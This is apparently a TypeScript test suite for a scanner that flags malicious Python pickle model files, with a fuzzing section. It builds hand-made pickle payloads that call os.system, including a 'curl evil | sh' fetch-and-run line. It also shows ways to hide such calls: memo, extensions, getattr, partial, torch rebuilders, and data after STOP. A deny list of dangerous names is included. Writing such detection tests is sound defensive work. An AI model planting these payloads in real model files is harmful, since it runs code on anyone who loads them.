import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { BufferBytes } from '../../lib/model/formats/bytes';
import { items, PickleCall, type PickleDict, type PickleGlobal, runPickle } from '../../lib/model/formats/pickle';
import { judgeName, scanFile } from '../../lib/model/scan';
import { UNHURRIED } from './scanned-files';

const scan = (bytes: Buffer | string, name = 'model.pkl') =>
  scanFile(new BufferBytes(typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes), name, UNHURRIED);

/** A pickle of protocol 2 that calls a name with a text. */
const calling = (module: string, name: string, argument = 'id') => `\x80\x02c${module}\n${name}\n${text(argument)}\x85R.`;
const text = (value: string) => `X${String.fromCharCode(value.length)}\0\0\0${value}`;
const short = (value: string) => `\x8c${String.fromCharCode(value.length)}${value}`;

describe('the machine', () => {
  const run = (bytes: string) => runPickle(new BufferBytes(Buffer.from(bytes, 'latin1')));

  test('builds what Python would build, without building it', () => {
    const { value, stopped } = run(`\x80\x02ccollections\nOrderedDict\n)R}${text('a')}K\x05sb.`);
    expect(stopped).toBe('stop');
    const call = value as PickleCall;
    expect((call.callee as PickleGlobal).path).toBe('collections.OrderedDict');
    expect((call.state as PickleDict).get('a')).toBe(5);
  });

  test.each([
    ['escapes in protocol 0', "cos\nsystem\n(S'\\x69d'\ntR."],
    ['unicode escapes', '\x80\x04V\\u006fs\nV\\u0073ystem\n\x93(V\\u0069d\ntR.'],
    ['names that pass through the memo', `\x80\x04${short('system')}\x94${short('os')}\x9400h\x01h\x00\x93${short('id')}\x85R.`],
    ['INST', "(S'id'\nios\nsystem\n."],
    ['OBJ', `(cos\nsystem\n${text('id')}o.`],
    ['NEWOBJ', `\x80\x02cos\nsystem\n${text('id')}\x85\x81.`],
    ['NEWOBJ_EX', `\x80\x04cos\nsystem\n${text('id')}\x85}\x92.`],
    [
      'an extension that the pickle registers itself',
      `\x80\x02ccopyreg\nadd_extension\n(${text('os')}${text('system')}K\x07tR0\x82\x07${text('id')}\x85R.`,
    ],
  ])('sees the call through %s', (_, bytes) => {
    const call = run(bytes).value as PickleCall;
    expect((call.callee as PickleGlobal).path).toBe('os.system');
    expect(items(call.args)).toEqual(['id']);
  });

  test('goes on where a strict unpickler raises, and says so', () => {
    const { faults, value } = run('\x80\x02h\x07cos\nsystem\nR.');
    expect(faults.map(({ what }) => what)).toEqual(['the memo holds nothing there']);
    expect(value).toBeInstanceOf(PickleCall);
  });

  test('agrees with pickletools on where every real pickle ends', () => {
    for (const protocol of [0, 2, 3, 4, 5]) {
      const bytes = readFileSync(join(__dirname, `fixtures/sklearn-pickle-${protocol}/model.pkl`));
      expect(runPickle(new BufferBytes(bytes))).toMatchObject({ end: bytes.length, stopped: 'stop', faults: [], protocol });
    }
  });
});

describe('names', () => {
  test.each([
    ['sklearn.linear_model._logistic', 'LogisticRegression'],
    ['numpy.core.multiarray', '_reconstruct'],
    ['numpy._core.multiarray', 'scalar'],
    ['collections', 'OrderedDict'],
    ['torch._utils', '_rebuild_tensor_v2'],
    ['torch', 'FloatStorage'],
    ['copy_reg', '_reconstructor'],
    ['__builtin__', 'set'],
    ['xgboost.core', 'Booster'],
    ['scipy.sparse._csr', 'csr_matrix'],
  ])('%s.%s is what models are made of', (module, name) => expect(judgeName(module, name).grade).toBe('safe'));

  test.each([
    ['os', 'system'],
    ['posix', 'system'],
    ['__builtin__', 'eval'],
    ['commands', 'getoutput'],
    ['pathlib', 'os.system'],
    ['sklearn.base', 'os'],
    ['torch', 'os.system'],
    ['numpy', 'load'],
    ['torch.hub', 'load'],
    ['_aix_support', '_read_cmd_output'],
    ['idlelib.run', 'Executive.runcode'],
    ['builtins', '__import__'],
    ['collections', 'OrderedDict.__class__.__subclasses__'],
    ['transformers', 'os.system'],
    ['some_package', 'run_command'],
  ])('%s.%s has no business in a model', (module, name) => expect(judgeName(module, name).grade).toBe('dangerous'));

  test('a class that no list knows is unknown, neither safe nor dangerous', () => {
    expect(judgeName('my_company.features', 'AgeBucketer').grade).toBe('unknown');
    expect(judgeName('base64', 'b64decode').grade).toBe('unknown');
  });
});

describe('a malicious pickle', () => {
  test('is named with the opcode, its offset and what it would have called', () => {
    expect(scan(calling('os', 'system', 'curl evil | sh')).findings).toContainEqual({
      grade: 'dangerous',
      code: 'pickle-call',
      path: 'model.pkl',
      offset: 33,
      opcode: 'REDUCE',
      name: 'os.system',
      call: "os.system('curl evil | sh')",
      message: "would call os.system('curl evil | sh'): it is of Python's own library, and no model needs it",
    });
  });

  test.each([
    ['behind the STOP of a harmless one', `\x80\x02]q\0.${calling('os', 'system')}`],
    ['before an error', `${calling('os', 'system').slice(0, -1)}\xff\xff`],
    ['in a call that is thrown away', `${calling('os', 'system').slice(0, -1)}0N.`],
    [
      "in torch's own rebuilder",
      `\x80\x03ctorch.storage\n_load_from_bytes\nC${String.fromCharCode(calling('os', 'system').length)}${calling('os', 'system')}\x85R.`,
    ],
    ['through partial', `\x80\x02cfunctools\npartial\ncos\nsystem\n${text('id')}\x86R)R.`],
    ['through getattr', `\x80\x02c__builtin__\ngetattr\ncnumpy\nndarray\n${text('__class__')}\x86R.`],
    ['by a computed name', `\x80\x04coperator\nadd\n${short('o')}${short('s')}\x86R${short('system')}\x93)R.`],
    ['by code handed to an unknown function', calling('some_package', 'Loader', "import os; os.system('id')")],
    ['on a class of the process', `\x80\x02cos\n_Environ\n}${text('x')}K\x01sb.`],
  ])('hidden %s is found', (_, bytes) => expect(scan(bytes).grade).toBe('dangerous'));

  test('whatever its file is called', () => {
    for (const name of ['weights.txt', 'image.png', 'README']) expect(scan(calling('os', 'system'), name).grade).toBe('dangerous');
  });

  test('that stands for more values than fit anywhere is a bomb', () => {
    const doubling = `\x85\x94${'2\x86'.repeat(40)}`;
    expect(scan(`\x80\x04N${doubling}.`).findings).toContainEqual(expect.objectContaining({ code: 'pickle-bomb', grade: 'dangerous' }));
  });

  test('behind a frame that its argument leaves is found where CPython goes on', () => {
    const body = `B\x20\0\0\0aacos\nsystem\nVid\n\x85R${'N'.repeat(16)}.`;
    expect(scan(`\x80\x05\x95\x02\0\0\0\0\0\0\0${body}`).grade).toBe('dangerous');
  });

  test('behind a raw joblib array, for a reader that knows of none', () => {
    const joblib = readFileSync(join(__dirname, 'fixtures/sklearn-joblib/model.joblib'));
    expect(scan(joblib).grade).toBe('safe');
    const hidden = Buffer.concat([joblib.subarray(0, -1), Buffer.from(calling('os', 'system').slice(2), 'latin1')]);
    expect(scan(hidden).grade).toBe('dangerous');
  });
});

describe('what is not malicious', () => {
  test("a class of one's own is unknown, and named", () => {
    expect(scan('\x80\x02cmy_company.features\nAgeBucketer\n)R.').findings).toEqual([
      expect.objectContaining({ grade: 'unknown', name: 'my_company.features.AgeBucketer', offset: 2 }),
    ]);
  });

  test('text is no pickle, even where it begins like one', () => {
    for (const prose of ['code for the model\nis in git\n', 'import os\nos.system("x")\n', '(see the wiki)\n', 'Notes.\n']) {
      expect(scan(prose, 'README.md').grade).toBe('safe');
    }
  });

  test('a broken pickle is unknown: nobody can say what a reader makes of it', () => {
    const whole = readFileSync(join(__dirname, 'fixtures/sklearn-pickle-4/model.pkl'));
    expect(scan(whole.subarray(0, 200)).findings).toContainEqual(expect.objectContaining({ grade: 'unknown', code: 'pickle-broken' }));
  });

  test('a pickle of more values than memory is for is refused: nobody knows its rest', () => {
    expect(scan(Buffer.alloc(9_000_000, 'N'), 'model.pkl').grade).toBe('dangerous');
    const held = Buffer.concat([Buffer.from('\x80\x04', 'latin1'), Buffer.alloc(9_000_000, 'N'), Buffer.from('.')]);
    expect(scan(held, 'model.pkl').findings).toContainEqual(
      expect.objectContaining({
        grade: 'dangerous',
        code: 'out-of-time',
        message: 'the pickle is too long to be followed to its end: what comes after was not looked at, and may do anything',
      }),
    );
  });
});

describe('a payload behind much else', () => {
  const payload = Buffer.from("cos\nsystem\n(S'id'\ntR.");

  test('behind a thousand findings is found, and that some are left out is said', () => {
    const findings = Buffer.from(`\x80\x02${'cbase64\nb64encode\n0'.repeat(1500)}`, 'latin1');
    const result = scan(Buffer.concat([findings, payload]));
    expect(result.grade).toBe('dangerous');
    expect(result.findings).toContainEqual(expect.objectContaining({ grade: 'dangerous', name: 'os.system', opcode: 'REDUCE' }));
    expect(result.findings).toContainEqual(expect.objectContaining({ code: 'too-many-findings' }));
    expect(result.findings.length).toBe(1001);
  });

  test('behind twenty million opcodes is refused, read to its end or not', () => {
    const filler = Buffer.alloc(21_000_000, 'N0');
    for (const head of ['\x80\x02', '']) {
      expect(scan(Buffer.concat([Buffer.from(head, 'latin1'), filler, payload])).grade).toBe('dangerous');
    }
  });
});

describe('fuzzed', () => {
  // a linear congruential generator: the same bytes in every run
  const random = (seed: number) => () => {
    seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
    return seed / 2 ** 32;
  };

  test('2,000 mutated models neither throw nor hang', () => {
    const sources = [
      'sklearn-pickle-4/model.pkl',
      'sklearn-joblib/model.joblib',
      'sklearn-joblib-xz/model.joblib',
      'sklearn-joblib-bz2/model.joblib',
      'sklearn-joblib-lz4/model.joblib',
      'torch-state/model.pth',
      'keras-h5/model.h5',
      'keras-zip/model.keras',
      'gguf/model.gguf',
      'onnx/model.onnx',
      'tflite/model.tflite',
      'savedmodel/1/saved_model.pb',
      'npz/weights.npz',
      'safetensors/model.safetensors',
      'xgboost-ubj/xgboost-model.ubj',
      'catboost/model.cbm',
    ].map((name) => ({ name, bytes: readFileSync(join(__dirname, 'fixtures', name)) }));
    const next = random(20);
    for (let round = 0; round < 2000; round++) {
      const { name, bytes } = sources[round % sources.length]!;
      const mutated = Buffer.from(bytes.subarray(0, next() < 0.3 ? Math.floor(next() * bytes.length) : bytes.length));
      for (let flips = 1 + Math.floor(next() * 8); flips > 0 && mutated.length > 0; flips--)
        mutated[Math.floor(next() * mutated.length)] = Math.floor(next() * 256);
      expect(['safe', 'unknown', 'dangerous']).toContain(scan(mutated, name.split('/').at(-1)).grade);
    }
  });

  test('of what 1 MB may hold nothing takes forever or fills the memory', () => {
    const megabyte = 1_000_000;
    const next = random(7);
    const inputs: Record<string, Buffer> = {
      'empty lists': Buffer.from(`\x80\x02${']'.repeat(megabyte)}`, 'latin1'),
      marks: Buffer.from(`\x80\x02${'('.repeat(megabyte)}`, 'latin1'),
      'memo of lists': Buffer.from(`\x80\x04${']\x94'.repeat(megabyte / 2)}.`, 'latin1'),
      imports: Buffer.from(`\x80\x02${'ca\nb\n'.repeat(megabyte / 5)}.`, 'latin1'),
      calls: Buffer.from(`\x80\x02${'ca\nb\n)R'.repeat(megabyte / 8)}.`, 'latin1'),
      stops: Buffer.from('N.'.repeat(megabyte / 2)),
      'a long number': Buffer.from(`I${'9'.repeat(megabyte)}\n.`),
      'no newline': Buffer.from(`c${'a'.repeat(megabyte)}`),
      'a gzip bomb': gzipSync(Buffer.alloc(500 * megabyte)).subarray(0, megabyte),
      random: Buffer.from(Uint8Array.from({ length: megabyte }, () => next() * 256)),
      zips: Buffer.from('PK\x03\x04'.repeat(megabyte / 4), 'latin1'),
      protobuf: Buffer.concat([Buffer.from([8, 8, 0x3a, 0x80, 0x80, 0x3d]), Buffer.alloc(megabyte, 0x0a)]),
      json: Buffer.from('[{"a":'.repeat(megabyte / 6)),
    };
    const folder = mkdtempSync(join(tmpdir(), 'fledge-test-'));
    for (const [name, bytes] of Object.entries(inputs)) writeFileSync(join(folder, name), bytes);
    const program = `
      const { readdirSync } = require('node:fs');
      const { scan } = require(${JSON.stringify(join(__dirname, '../../lib/model/scan/scan.ts'))});
      const before = process.memoryUsage.rss();
      let files = 0;
      for (const name of readdirSync('.')) { scan(name); files++; }
      console.log(JSON.stringify({ files, megabytes: process.resourceUsage().maxRSS / 1024 - before / 1048576 }));
    `;
    const { stdout, stderr } = spawnSync(process.execPath, ['--import', require.resolve('tsx'), '-e', program], {
      cwd: folder,
      encoding: 'utf8',
    });
    rmSync(folder, { recursive: true });
    expect(stderr).toBe('');
    const { files, megabytes } = JSON.parse(stdout) as { files: number; megabytes: number };
    expect(files).toBe(Object.keys(inputs).length);
    expect(megabytes).toBeLessThan(400);
  });
});
